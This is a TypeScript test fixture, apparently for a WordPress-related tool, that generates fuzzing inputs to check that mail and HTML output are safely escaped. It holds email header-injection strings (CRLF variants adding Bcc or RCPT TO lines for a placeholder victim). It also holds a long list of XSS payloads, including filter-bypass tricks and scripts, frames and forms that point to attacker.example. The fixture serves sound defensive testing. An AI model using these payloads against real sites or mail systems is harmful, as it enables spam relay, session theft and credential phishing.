/** Whom the attacks in `hostileTexts` name; no mail may ever reach them. */
export const VICTIM = 'victim@other.example';

const BREAKS = [
  '\r\n',
  '\n',
  '\r',
  '\0',
  '\x0b',
  '\x0c',
  '\x1b',
  '\x7f',
  '\u0085',
  '\u2028',
  '\u2029',
  '%0d%0a',
  '=0D=0A',
  '\r\n\r\n',
  '\r\n ',
];
const ATTACKS = [
  `Bcc: ${VICTIM}`,
  `To: ${VICTIM}`,
  `RCPT TO:<${VICTIM}>`,
  'X-Injected: 1',
  'Content-Type: text/html',
  '.\r\nMAIL FROM:<evil@other.example>',
  `<${VICTIM}>`,
  `, ${VICTIM}`,
  `" <${VICTIM}>, "`,
  `(${VICTIM})`,
  `=?utf-8?B?${Buffer.from(`\r\nBcc: ${VICTIM}`).toString('base64')}?=`,
  `=?utf-8?Q?=0D=0ABcc:_${VICTIM}?=`,
  '\ud800',
  '\u202egnp.exe',
  '🔑'.repeat(80),
  'x'.repeat(1200),
  '"@',
  ';',
  ' NOTIFY=SUCCESS',
];
const PLAIN = [
  'reader',
  'Zoë',
  'a.b',
  'press.example',
  '@',
  '@press.example',
  'reader@press.example',
  ' ',
  '"',
  '\\',
  "'",
  '<',
  '>',
];

/** Texts that try to add a header, a recipient or a second mail where they become a part of one. `random` as of `seeded`. */
export function hostileTexts(random: () => number, count: number): string[] {
  const pick = (list: readonly string[]): string => list[Math.floor(random() * list.length)] ?? '';
  return Array.from({ length: count }, () => {
    const parts = [pick(PLAIN)];
    for (let more = Math.floor(random() * 4); more >= 0; more -= 1) parts.push(pick(random() < 0.5 ? BREAKS : ATTACKS));
    parts.push(pick(PLAIN));
    return parts.join('');
  });
}

const CANARY = 'window.__pressloom_canary=1';

/** HTML of every kind that acts where it is shown as it came: as a tag, an attribute, an address, a block of WordPress. */
export const HOSTILE_HTML: readonly string[] = [
  `<script>${CANARY}</script>`,
  `<SCRIPT SRC=https://attacker.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${CANARY}</scr</script>ipt>`,
  `</title><script>${CANARY}</script>`,
  `</textarea><script>${CANARY}</script>`,
  `<!--><script>${CANARY}</script>-->`,
  `<![CDATA[<script>${CANARY}</script>]]>`,
  `&lt;script&gt;${CANARY}&lt;/script&gt;`,
  `&#60;script&#62;${CANARY}&#60;/script&#62;`,
  `\u003cimg src=x onerror=${CANARY}\u003e`,
  `<img src=x onerror=${CANARY}>`,
  `<img src="x" onerror="${CANARY}"`,
  `<img/src=x/onerror=${CANARY}//`,
  `"><img src=x onerror=${CANARY}>`,
  `' onmouseover='${CANARY}`,
  `" autofocus onfocus="${CANARY}`,
  `<p onclick="${CANARY}" style="background:url(https://attacker.example/pixel)">styled</p>`,
  `<b onmouseover=${CANARY}>bold</b>`,
  `<a href="javascript:${CANARY}">read</a>`,
  `<a href=" java\tscript:${CANARY}">read</a>`,
  `<a href="&#106;avascript:${CANARY}">read</a>`,
  `<a href="data:text/html,<script>${CANARY}</script>">read</a>`,
  `<a href="//attacker.example/">read</a>`,
  `<a href="https://www.youtube.com@attacker.example/">read</a>`,
  `<a href="https://www.youtube.com/" onclick="${CANARY}" target="_blank">read</a>`,
  `<svg onload=${CANARY}><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>`,
  `<svg><style><img src=x onerror=${CANARY}></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CANARY}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${CANARY}>"></noscript>`,
  '<iframe src="https://attacker.example/frame"></iframe>',
  `<iframe srcdoc="<script>${CANARY}</script>"></iframe>`,
  '<object data="https://attacker.example/x"></object><embed src="https://attacker.example/x">',
  '<base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '<link rel="stylesheet" href="https://attacker.example/x.css"><style>@import "https://attacker.example/x.css"</style>',
  '<form action="https://attacker.example/"><input name="password"><button formaction="javascript:x">Go</button></form>',
  '<video poster="https://attacker.example/x"><source onerror="x"></video><audio src="https://attacker.example/x">',
  '<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->',
  '--><!-- wp:embed {"url":"https://attacker.example/"} /-->',
  '[embed]https://attacker.example/[/embed][gallery ids="1"]',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202egnp.exe\u2066\u2069',
  `<template><script>${CANARY}</script></template><marquee onstart=${CANARY}>`,
];
